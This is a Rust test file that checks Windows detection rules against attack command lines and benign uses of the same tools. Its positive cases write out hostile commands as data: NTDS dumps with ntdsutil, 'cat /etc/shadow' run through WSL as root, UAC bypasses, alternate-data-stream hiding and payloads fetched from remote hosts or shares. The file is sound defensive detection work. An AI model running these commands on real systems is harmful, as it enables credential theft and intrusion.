//! The built-in Windows technique rules that span many binaries (alternate data streams,
//! proxy execution, payloads on shares, UAC bypass launches, ...): each against attack
//! command lines (positives) and ordinary uses of the same binaries (negatives).

use std::path::{Path, PathBuf};
use watchpost_sigma::{CompiledRuleSet, FlatEvent, RuleSet};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn rule(file: &str) -> CompiledRuleSet {
    let path = repo().join("rules/builtin/windows").join(file);
    let mut set = RuleSet::default();
    set.add_yaml(
        &std::fs::read_to_string(&path).unwrap(),
        &path.display().to_string(),
    )
    .unwrap();
    let set = set.compile();
    assert!(set.errors().is_empty(), "{file}: {:?}", set.errors());
    assert_eq!(set.rules().len(), 1, "{file}");
    set
}

/// A Sysmon process creation of `image` with `command_line`, started by `parent`.
fn process(image: &str, command_line: &str, parent: &str) -> FlatEvent {
    let mut event = FlatEvent::windows("Microsoft-Windows-Sysmon/Operational", 1);
    event.push("Image", image);
    event.push("CommandLine", command_line);
    event.push("ParentImage", parent);
    event
}

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const SYS: &str = r"C:\Windows\System32\";

/// `(image, command line, parent)`.
type Case = (&'static str, &'static str, &'static str);

struct Rule {
    file: &'static str,
    positives: &'static [Case],
    negatives: &'static [Case],
}

const RULES: &[Rule] = &[
    Rule {
        file: "proc_creation_win_alternate_data_stream.yml",
        positives: &[
            (
                "findstr.exe",
                r"findstr /V /L x C:\Users\Public\a.exe > C:\Users\Public\log.txt:hidden.exe",
                CMD,
            ),
            (
                "reg.exe",
                r"reg export HKLM\SOFTWARE\Run C:\Users\Public\notes:run.reg",
                CMD,
            ),
            (
                "control.exe",
                r"control.exe C:\Users\Public\Downloads\readme:evil.dll",
                CMD,
            ),
        ],
        negatives: &[
            (
                "cmd.exe",
                r"cmd /c copy C:\a\b.txt D:\backup\b.txt",
                EXPLORER,
            ),
            (
                "powershell.exe",
                r"powershell Get-Content C:\Users\bob\Downloads\setup.exe:Zone.Identifier",
                EXPLORER,
            ),
            (
                "curl.exe",
                "curl.exe -o out.zip http://updates.example:8080/files/out.zip",
                CMD,
            ),
            (
                "findstr.exe",
                r#"findstr /C:"error.log" C:\logs\app.txt"#,
                CMD,
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_uac_bypass_autoelevate_from_shell.yml",
        positives: &[
            (r"C:\Windows\System32\fodhelper.exe", "fodhelper.exe", CMD),
            (
                r"C:\Windows\System32\ComputerDefaults.exe",
                "ComputerDefaults.exe",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ),
        ],
        negatives: &[
            (
                r"C:\Windows\System32\eventvwr.exe",
                "eventvwr.exe",
                EXPLORER,
            ),
            (
                r"C:\Windows\System32\odbcad32.exe",
                "odbcad32.exe",
                r"C:\Windows\System32\control.exe",
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_proxy_execution_tool.yml",
        positives: &[
            (
                r"C:\Windows\System32\conhost.exe",
                "conhost.exe --headless cmd.exe /c whoami",
                CMD,
            ),
            (
                r"C:\Program Files\Windows Kits\10\Debuggers\x64\windbg.exe",
                "windbg.exe -g cmd.exe /c whoami",
                CMD,
            ),
            (
                r"C:\Windows\System32\xbootmgr.exe",
                r"xbootmgr.exe -trace boot -callBack C:\Users\Public\Downloads\run.exe",
                CMD,
            ),
            (
                r"C:\Windows\System32\OpenSSH\ssh.exe",
                r#"ssh -o ProxyCommand="cmd /c calc" x"#,
                CMD,
            ),
            (
                r"C:\Windows\System32\OpenSSH\ssh.exe",
                r#"ssh localhost "cmd.exe /c whoami""#,
                CMD,
            ),
            (
                EXPLORER,
                r"explorer.exe C:\Users\Public\Downloads\invoice.exe",
                CMD,
            ),
            (
                r"C:\Windows\System32\mmc.exe",
                r"mmc.exe -Embedding C:\Users\Public\Downloads\console.msc",
                CMD,
            ),
        ],
        negatives: &[
            (
                r"C:\Windows\System32\conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                CMD,
            ),
            (
                r"C:\Users\bob\AppData\Local\Microsoft\WindowsApps\wt.exe",
                r#"wt.exe -p "Windows PowerShell""#,
                EXPLORER,
            ),
            (
                r"C:\Windows\System32\OpenSSH\ssh.exe",
                "ssh -L 8080:localhost:80 bob@build.example",
                CMD,
            ),
            (EXPLORER, r"explorer.exe C:\Users\bob\Downloads", CMD),
            (
                r"C:\Windows\System32\mmc.exe",
                r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\compmgmt.msc" /s"#,
                EXPLORER,
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_payload_on_network_share.yml",
        positives: &[
            (
                r"C:\Windows\System32\expand.exe",
                r"expand \\203.0.113.50\share\a.bat C:\Users\Public\a.bat",
                CMD,
            ),
            (
                r"C:\Windows\System32\extrac32.exe",
                r"extrac32 /Y /C \\203.0.113.50\share\payload C:\Users\Public\payload",
                CMD,
            ),
            (
                r"C:\Windows\System32\rundll32.exe",
                r"rundll32.exe \\files@SSL\DavWWWRoot\x.dll,Start",
                CMD,
            ),
            (
                r"\\tsclient\c\temp\a.exe",
                r#""\\tsclient\c\temp\a.exe""#,
                CMD,
            ),
        ],
        negatives: &[
            (
                r"C:\Windows\System32\net.exe",
                r"net use Z: \\10.0.0.5\projects",
                CMD,
            ),
            (
                r"C:\Windows\System32\Robocopy.exe",
                r"robocopy \\fileserver\deploy C:\apps /MIR",
                CMD,
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_squirrel_update_abuse.yml",
        positives: &[(
            r"C:\Users\bob\AppData\Local\Discord\Update.exe",
            "Update.exe --update=http://203.0.113.50/payload",
            CMD,
        )],
        negatives: &[
            (
                r"C:\Users\bob\AppData\Local\Microsoft\Teams\Update.exe",
                "Update.exe --processStart Teams.exe",
                EXPLORER,
            ),
            (
                r"C:\Users\bob\AppData\Local\slack\Update.exe",
                "Update.exe --update=https://downloads.slack-edge.com/releases/windows",
                EXPLORER,
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_url_handed_to_non_downloader.yml",
        positives: &[
            (
                r"C:\Program Files\Microsoft Office\root\Office16\MSACCESS.EXE",
                "MSAccess.exe http://203.0.113.50/payload",
                CMD,
            ),
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe",
                "ngen.exe https://198.51.100.7/x",
                CMD,
            ),
        ],
        negatives: &[
            (
                r"C:\Program Files\Microsoft Office\root\Office16\VISIO.EXE",
                r#"VISIO.EXE /n "https://contoso.sharepoint.com/sites/it/network.vsdx""#,
                EXPLORER,
            ),
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe",
                "ngen.exe executeQueuedItems",
                r"C:\Windows\System32\svchost.exe",
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_ntds_snapshot.yml",
        positives: &[(
            r"C:\Windows\System32\ntdsutil.exe",
            r#"ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q"#,
            CMD,
        )],
        negatives: &[(
            r"C:\Windows\System32\ntdsutil.exe",
            r#"ntdsutil "activate instance ntds" "files" "info" q q"#,
            CMD,
        )],
    },
    Rule {
        file: "proc_creation_win_process_memory_dump_tool.yml",
        positives: &[
            (
                r"C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\Extensions\TestPlatform\Extensions\dump64.exe",
                "dump64.exe 672 out.dmp",
                CMD,
            ),
            (
                r"C:\Windows\System32\tttracer.exe",
                "TTTracer.exe -dumpFull -attach 672",
                CMD,
            ),
        ],
        negatives: &[(
            r"C:\Windows\System32\tttracer.exe",
            r"tttracer.exe -out C:\traces C:\src\app\bin\app.exe",
            CMD,
        )],
    },
    Rule {
        file: "proc_creation_win_code_compiled_from_user_folder.yml",
        positives: &[
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\vbc.exe",
                r"vbc.exe /target:exe C:\Users\Public\Downloads\a.vb",
                CMD,
            ),
            (r"C:\Program Files\dotnet\dotnet.exe", "dotnet.exe fsi", CMD),
        ],
        negatives: &[
            (
                r"C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\Extensions\TestPlatform\vstest.console.exe",
                r"vstest.console.exe C:\src\product\tests\bin\Release\Product.Tests.dll",
                CMD,
            ),
            (
                r"C:\Program Files\dotnet\dotnet.exe",
                "dotnet build -c Release",
                CMD,
            ),
        ],
    },
    Rule {
        file: "proc_creation_win_wsl_command.yml",
        positives: &[
            (
                r"C:\Windows\System32\wsl.exe",
                "wsl.exe -u root -e cat /etc/shadow",
                CMD,
            ),
            (
                r"C:\Windows\System32\wsl.exe",
                r#"wsl.exe --exec bash -c "cmd.exe /c whoami""#,
                CMD,
            ),
        ],
        negatives: &[
            (r"C:\Windows\System32\wsl.exe", "wsl.exe", EXPLORER),
            (r"C:\Windows\System32\wsl.exe", "wsl --list --verbose", CMD),
        ],
    },
    Rule {
        file: "proc_creation_win_dev_tunnel.yml",
        positives: &[(
            r"C:\Users\bob\AppData\Local\Microsoft\WinGet\Links\devtunnel.exe",
            "devtunnel.exe host -p 8080",
            CMD,
        )],
        negatives: &[(
            r"C:\Users\bob\AppData\Local\Microsoft\WinGet\Links\devtunnel.exe",
            "devtunnel.exe user login",
            CMD,
        )],
    },
    Rule {
        file: "proc_creation_win_wmic_file_copy.yml",
        positives: &[(
            r"C:\Windows\System32\wbem\WMIC.exe",
            r#"wmic.exe datafile where "Name='C:\\windows\\system32\\calc.exe'" call Copy "C:\\users\\public\\calc.exe""#,
            CMD,
        )],
        negatives: &[(
            r"C:\Windows\System32\wbem\WMIC.exe",
            r#"wmic datafile where "name='C:\\windows\\system32\\kernel32.dll'" get version"#,
            CMD,
        )],
    },
    Rule {
        file: "proc_creation_win_windir_redirected.yml",
        positives: &[(
            CMD,
            r#"cmd /c "set windir=C:\Users\Public\x& C:\Windows\System32\cleanmgr.exe""#,
            EXPLORER,
        )],
        negatives: &[(CMD, r"cmd /c echo %windir%", EXPLORER)],
    },
];

#[test]
fn every_technique_rule_matches_its_attacks_and_not_ordinary_use() {
    let mut failures = Vec::new();
    for r in RULES {
        let set = rule(r.file);
        for (image, line, parent) in r.positives {
            let image = if image.contains('\\') {
                image.to_string()
            } else {
                format!("{SYS}{image}")
            };
            if set.matches(&process(&image, line, parent)).is_empty() {
                failures.push(format!("{}: missed {line}", r.file));
            }
        }
        for (image, line, parent) in r.negatives {
            if !set.matches(&process(image, line, parent)).is_empty() {
                failures.push(format!("{}: flagged {line}", r.file));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn every_builtin_windows_rule_is_tested() {
    let tested: Vec<&str> = RULES.iter().map(|r| r.file).collect();
    let per_binary =
        std::fs::read_to_string(repo().join("crates/sigma/tests/builtin_windows.rs")).unwrap();
    for entry in std::fs::read_dir(repo().join("rules/builtin/windows")).unwrap() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        if name.ends_with(".yml") {
            assert!(
                tested.contains(&name.as_str()) || per_binary.contains(&name),
                "{name} has no test"
            );
        }
    }
}
